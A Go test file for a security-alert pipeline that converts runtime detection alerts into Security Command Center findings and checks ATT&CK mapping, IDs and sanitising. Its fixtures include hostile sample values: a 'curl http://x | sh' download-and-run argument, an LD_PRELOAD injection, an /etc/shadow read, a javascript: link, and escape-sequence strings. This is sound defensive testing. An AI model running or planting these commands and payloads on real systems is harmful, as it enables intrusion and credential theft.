package scc

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	pb "cloud.google.com/go/securitycenter/apiv2/securitycenterpb"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protopath"
	"google.golang.org/protobuf/reflect/protorange"
	"google.golang.org/protobuf/reflect/protoreflect"
	"google.golang.org/protobuf/testing/protocmp"

	"tiercel.dev/alert"
	"tiercel.dev/internal/scc/golden"
)

var (
	now  = time.Date(2026, 1, 2, 4, 0, 0, 0, time.UTC)
	twoT = Counted{Events: 2, First: now.Add(-time.Hour), Last: now.Add(-time.Minute)}
)

// sample reads an alert of testdata.
func sample(t *testing.T, name string) *alert.Alert {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name+".alert.json"))
	if err != nil {
		t.Fatal(err)
	}
	a, err := alert.Unmarshal(b)
	if err == nil {
		err = alert.Validate(a)
	}
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return a
}

// variants are what a node may tell that the shell of testdata/shell.alert.json is not.
var variants = map[string]func(*alert.Alert){
	"host_file_read": func(a *alert.Alert) {
		a.Rule = &alert.Rule{Name: "sensitive_file_read", Title: "Sensitive file read", Attack: []string{"T1003.008", "T1552.001"}}
		a.Container, a.Pod, a.Cluster = nil, nil, nil
		a.Files = []*alert.File{{Path: "/tmp/link", RealPath: "/etc/shadow", Operation: alert.Alert_File_READ}}
	},
	"rename": func(a *alert.Alert) {
		a.Files = []*alert.File{
			{Path: "/usr/bin/ls", RealPath: "/usr/bin/ls", FsPath: "/merged/usr/bin/ls", Operation: alert.Alert_File_RENAME},
			{Path: "/tmp/\"quoted\" & <b>", Operation: alert.Alert_File_RENAME},
		}
	},
	"chmod": func(a *alert.Alert) { // an operation that there is no word for
		a.Files = []*alert.File{{Path: "/bin/su", RealPath: "/bin/su", Operation: alert.Alert_File_CHANGE_MODE}}
	},
	"memfd_exec": func(a *alert.Alert) {
		a.Rule.Attack = []string{"T1620", "T1059"}
		a.Process.ExePath, a.Process.ExeMemfd, a.Process.Args = "memfd:x (deleted)", true, []string{"-c", "id && curl http://x | sh"}
		a.Process.ArgsTruncated = true
		a.Process.Env = []string{"LD_PRELOAD=/tmp/x.so", "EMPTY=", "NOVALUE"}
		a.Ancestors = append(a.Ancestors, &alert.Process{Pid: 1, Name: "systemd", ExePath: "/usr/lib/systemd/systemd", Args: []string{"--system"}})
	},
	"outbound_udp": func(a *alert.Alert) {
		a.Rule.Attack = []string{"T1071.004"}
		a.Connection = &alert.Connection{Protocol: "udp", LocalIp: "10.1.2.3", LocalPort: 40000, RemoteIp: "10.8.0.7", RemotePort: 53,
			AskedIp: "10.96.0.10", AskedPort: 53, Role: alert.Alert_Connection_CLIENT}
	},
	"inbound_tcp": func(a *alert.Alert) {
		a.Connection = &alert.Connection{Protocol: "tcp", LocalIp: "fd00::1", LocalPort: 22, RemoteIp: "2001:db8::5", RemotePort: 51000, Role: alert.Alert_Connection_SERVER}
	},
	"listening": func(a *alert.Alert) {
		a.Connection = &alert.Connection{Protocol: "tcp", LocalIp: "0.0.0.0", LocalPort: 4444, Role: alert.Alert_Connection_SERVER}
	},
	"unix_socket": func(a *alert.Alert) {
		a.Rule.Attack = []string{"T1610"}
		a.Connection = &alert.Connection{Protocol: "unix", UnixPath: "/run/containerd/containerd.sock"}
	},
	"no_technique": func(a *alert.Alert) {
		a.Severity, a.Rule.Attack, a.Rule.Title, a.Rule.Description, a.Output = alert.Low, nil, "", "", ""
	},
	"unknown_technique": func(a *alert.Alert) { a.Severity, a.Rule.Attack = alert.Medium, []string{"T1014", "T1622"} },
	"unverified": func(a *alert.Alert) {
		a.Enrichment = &alert.Enrichment{Verification: alert.Alert_Enrichment_UNVERIFIED, VerificationReason: "project acme has no cluster prod in europe-west1",
			Missing: []string{"owners: the cluster is not known"}, Links: []*alert.Link{{Title: "bad", Url: "javascript:alert(1)"}}}
	},
	"lowered_by_policy": func(a *alert.Alert) {
		a.Enrichment = &alert.Enrichment{Verification: alert.Verified, NextSteps: "Nothing, until the end of the test.\n\x1b[31mThen look.",
			Owners: []*alert.Owner{{ApiVersion: "v1", Kind: "Node", Name: "n1"}},
			Links:  []*alert.Link{{Title: "Node", Url: "https://console.cloud.google.com/compute"}, {Title: "Logs", Url: "https://console.cloud.google.com/logs"}},
			Policy: &alert.Policy{Name: "red-team", Reason: "a test of ours", Until: "2026-02-01T00:00:00Z", OriginalSeverity: alert.High}}
		a.Severity = alert.Low
	},
	"refused_exec": func(a *alert.Alert) {
		a.Event = &alert.Event{Type: "execve", Result: -13, Failed: true}
		a.Files = []*alert.File{{Path: "/tmp/x", Operation: alert.Alert_File_EXECUTE}}
		a.Fields = []*alert.Field{alert.NewField("evt.arg.filename", "/tmp/x"), alert.NewField("evt.arg.flags", nil), alert.NewField("proc.name", "sh")}
	},
	"raw_socket": func(a *alert.Alert) {
		a.Connection = &alert.Connection{Protocol: "raw", RemoteIp: "192.0.2.1"}
	},
	"incomplete_container": func(a *alert.Alert) {
		a.Container = &alert.Container{Id: a.Container.Id, Incomplete: true, Privileged: true}
		a.Pod = nil
		a.Process = &alert.Process{Pid: 7, Partial: true}
		a.Ancestors = nil
	},
}

func TestFindings(t *testing.T) {
	alerts := make(map[string]*alert.Alert)
	paths, _ := filepath.Glob("testdata/*.alert.json")
	for _, path := range paths {
		name := strings.TrimSuffix(filepath.Base(path), ".alert.json")
		alerts[name] = sample(t, name)
	}
	if len(alerts) < 3 {
		t.Fatalf("%d samples", len(alerts))
	}
	for name, change := range variants {
		alerts[name] = sample(t, "shell")
		change(alerts[name])
		if err := alert.Validate(alerts[name]); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	for name, a := range alerts {
		golden.Compare(t, filepath.Join("testdata", name+".finding.json"), Finding(a, twoT, now))
	}
}

func TestAttack(t *testing.T) {
	for _, tt := range []struct {
		ids  []string
		want *pb.MitreAttack
	}{
		{nil, nil},
		{[]string{"T1059.004"}, &pb.MitreAttack{PrimaryTactic: pb.MitreAttack_EXECUTION,
			PrimaryTechniques: []pb.MitreAttack_Technique{pb.MitreAttack_UNIX_SHELL, pb.MitreAttack_COMMAND_AND_SCRIPTING_INTERPRETER}}},
		{[]string{"T1552.005"}, &pb.MitreAttack{PrimaryTactic: pb.MitreAttack_CREDENTIAL_ACCESS, // no word for the sub-technique
			PrimaryTechniques: []pb.MitreAttack_Technique{pb.MitreAttack_UNSECURED_CREDENTIALS}}},
		{[]string{"T1021.004"}, &pb.MitreAttack{PrimaryTactic: pb.MitreAttack_LATERAL_MOVEMENT}}, // nor for its parent
		{[]string{"T9999"}, nil},
		{[]string{"TA0040", "T1496"}, &pb.MitreAttack{PrimaryTactic: pb.MitreAttack_IMPACT,
			PrimaryTechniques: []pb.MitreAttack_Technique{pb.MitreAttack_RESOURCE_HIJACKING}}},
		{[]string{"T1611", "T1003.008", "T1543"}, &pb.MitreAttack{PrimaryTactic: pb.MitreAttack_PRIVILEGE_ESCALATION,
			PrimaryTechniques:    []pb.MitreAttack_Technique{pb.MitreAttack_ESCAPE_TO_HOST, pb.MitreAttack_CREATE_OR_MODIFY_SYSTEM_PROCESS},
			AdditionalTactics:    []pb.MitreAttack_Tactic{pb.MitreAttack_CREDENTIAL_ACCESS},
			AdditionalTechniques: []pb.MitreAttack_Technique{pb.MitreAttack_OS_CREDENTIAL_DUMPING_ETC_PASSWORD_AND_ETC_SHADOW, pb.MitreAttack_OS_CREDENTIAL_DUMPING}}},
	} {
		if tt.want != nil {
			tt.want.Version = attackVersion
		}
		if d := cmp.Diff(tt.want, attack(tt.ids), protocmp.Transform()); d != "" {
			t.Errorf("%v (-want +got):\n%s", tt.ids, d)
		}
	}
}

// Every technique that there is a word for serves some tactic, and every tactic is one.
func TestTables(t *testing.T) {
	for id := range techniques {
		if len(served(id)) == 0 {
			t.Errorf("%s serves no tactic", id)
		}
	}
	for id, serves := range tacticsOf {
		for _, s := range serves {
			if _, ok := tactics[s]; !ok {
				t.Errorf("%s serves %s, which is no tactic", id, s)
			}
		}
	}
	words := make(map[pb.MitreAttack_Technique]string)
	for id, word := range techniques {
		if words[word] != "" {
			t.Errorf("%s is %s and %s", word, words[word], id)
		}
		words[word] = id
	}
	for number, name := range pb.MitreAttack_Technique_name {
		if number != 0 && words[pb.MitreAttack_Technique(number)] == "" {
			t.Errorf("%s of the API has no id", name)
		}
	}
	if len(tactics) != len(pb.MitreAttack_Tactic_name)-1 {
		t.Errorf("%d tactics in the table, %d in the API", len(tactics), len(pb.MitreAttack_Tactic_name)-1)
	}
}

func TestID(t *testing.T) {
	a := sample(t, "shell")
	id := ID(a)
	if !regexp.MustCompile(`^[0-9a-f]{32}$`).MatchString(id) {
		t.Errorf("%q", id)
	}
	for name, change := range map[string]func(*alert.Alert){
		"the identity": func(a *alert.Alert) { a.Identity = strings.Repeat("0", 32) },
		"the cluster":  func(a *alert.Alert) { a.Cluster.Name = "other" },
		"the project":  func(a *alert.Alert) { a.Cluster.Project = "other" },
		"a moved part": func(a *alert.Alert) { a.Cluster.Project, a.Cluster.Location = a.Cluster.Project+"/x", "" },
	} {
		b := proto.CloneOf(a)
		if change(b); ID(b) == id {
			t.Errorf("%s does not change the id", name)
		}
	}
	b := proto.CloneOf(a)
	b.Seq, b.AlertId, b.Time = 99, "x", "y"
	b.Enrichment = &alert.Enrichment{ClusterUid: "u", ClusterResource: "//r"}
	if ID(b) != id {
		t.Error("a repeat, or the same alert with more known of it, has another id")
	}
}

var key = regexp.MustCompile(`^[A-Za-z][A-Za-z0-9_]{0,254}$`)

// Whatever an alert says, the finding is one that the API takes: bounded, of valid UTF-8, with legal keys.
func TestAnyAlertGivesALegalFinding(t *testing.T) {
	a := sample(t, "shell")
	hostile := "\x00\x1b[31m\u202e" + strings.Repeat("€", 3000)
	a.Process.Name, a.Process.Exe, a.Process.ExePath, a.Output = hostile, hostile, hostile, hostile
	a.Rule.Title, a.Rule.Description = hostile, hostile
	for range 500 {
		a.Process.Args = append(a.Process.Args, hostile)
		a.Process.Env = append(a.Process.Env, hostile)
		a.Container.Labels = append(a.Container.Labels, &alert.Label{Key: hostile, Value: hostile})
		a.Ancestors = append(a.Ancestors, a.Process)
		a.Files = append(a.Files, &alert.File{Path: hostile})
	}
	a.Rule.Name, a.SensorId, a.SensorVersion, a.Rule.Tags = hostile, hostile, hostile, []string{hostile}
	a.Container.Name, a.Container.ImageRepository, a.Pod.Name, a.Pod.Namespace, a.Cluster.Name = hostile, hostile, hostile, hostile, hostile
	a.Enrichment = &alert.Enrichment{NodeResource: hostile, ClusterResource: hostile, NodePool: hostile, NextSteps: hostile,
		Missing: []string{hostile}, ReleaseChannel: hostile, ControlPlaneVersion: hostile, VerificationReason: hostile,
		Links: []*alert.Link{{Url: "https://x/" + hostile}}, Services: []*alert.Service{{Name: hostile}}}
	f := Finding(a, Counted{Events: 1, First: now, Last: now.Add(time.Hour)}, now)
	if n := proto.Size(f); n > maxFinding {
		t.Errorf("%d bytes", n)
	}
	if _, err := proto.Marshal(f); err != nil {
		t.Error(err)
	}
	if f.EventTime.AsTime().After(now) {
		t.Errorf("happened at %v, in the future", f.EventTime.AsTime())
	}
	if len(f.Category) > maxCategory {
		t.Errorf("category of %d bytes", len(f.Category))
	}
	protorange.Range(f.ProtoReflect(), func(p protopath.Values) error {
		if text, ok := p.Index(-1).Value.Interface().(string); ok && strings.ContainsAny(text, "\u202e\x1b\x00") {
			t.Errorf("a page that shows %v obeys it: %q", p.Path, clip(text, 40))
		}
		return nil
	})
	for k := range f.SourceProperties {
		if !key.MatchString(k) {
			t.Errorf("key %q", k)
		}
	}
	if !f.SourceProperties["finding_truncated"].GetBoolValue() || !f.Processes[0].ArgumentsTruncated {
		t.Error("what was cut is not told")
	}
}

// full is the finding of an alert that has everything.
func full(t *testing.T) *pb.Finding {
	t.Helper()
	a := sample(t, "enriched")
	fill(a.ProtoReflect())
	a.Severity, a.Truncated = alert.High, []string{"output"}
	a.Files[0].Path, a.Enrichment.Links = "/asked", []*alert.Link{{Title: "a", Url: "https://a/"}, {Title: "b", Url: "https://b/"}}
	a.Connection.Protocol, a.Connection.AskedPort = "raw", 80
	a.Fields = append(a.Fields, alert.NewField("evt.arg.mode", "0644"))
	a.Output = strings.Repeat("x", maxText)
	f := Finding(a, twoT, now)
	for _, key := range written {
		if f.SourceProperties[key] == nil {
			t.Errorf("%s is named and no alert has it", key)
		}
	}
	return f
}

// fill gives every field of a message a value, lists one item.
func fill(m protoreflect.Message) {
	fields := m.Descriptor().Fields()
	for i := range fields.Len() {
		switch fd := fields.Get(i); {
		case fd.IsList() && fd.Kind() == protoreflect.MessageKind:
			fill(m.Mutable(fd).List().AppendMutable().Message())
		case fd.IsList():
			m.Mutable(fd).List().Append(protoreflect.ValueOfString("x"))
		case fd.Kind() == protoreflect.MessageKind:
			fill(m.Mutable(fd).Message())
		case m.Has(fd):
		case fd.Kind() == protoreflect.StringKind:
			m.Set(fd, protoreflect.ValueOfString("x"))
		case fd.Kind() == protoreflect.BoolKind:
			m.Set(fd, protoreflect.ValueOfBool(true))
		case fd.Kind() == protoreflect.EnumKind:
			m.Set(fd, protoreflect.ValueOfEnum(1))
		case fd.Kind() == protoreflect.Uint64Kind:
			m.Set(fd, protoreflect.ValueOfUint64(1))
		case fd.Kind() == protoreflect.Uint32Kind:
			m.Set(fd, protoreflect.ValueOfUint32(1))
		case fd.Kind() == protoreflect.Int64Kind:
			m.Set(fd, protoreflect.ValueOfInt64(1))
		case fd.Kind() == protoreflect.Int32Kind:
			m.Set(fd, protoreflect.ValueOfInt32(1))
		}
	}
}

// An update with the mask touches nothing that an operator sets.
func TestRepeatMask(t *testing.T) {
	names := (&pb.Finding{}).ProtoReflect().Descriptor().Fields()
	mask := RepeatMask(Finding(sample(t, "shell"), twoT, now))
	for _, path := range mask {
		if key, ok := strings.CutPrefix(path, "source_properties."); ok && key != "" {
			continue
		}
		if names.ByTextName(path) == nil {
			t.Errorf("%s is no field of a finding", path)
		}
		switch path {
		case "state", "mute", "security_marks", "category", "resource_name", "finding_class":
			t.Errorf("%s is the operator's, or immutable", path)
		}
	}
	for key := range full(t).SourceProperties {
		if !slices.Contains(mask, "source_properties."+key) {
			t.Errorf("a repeat without the property %s leaves it as it was", key)
		}
	}
}
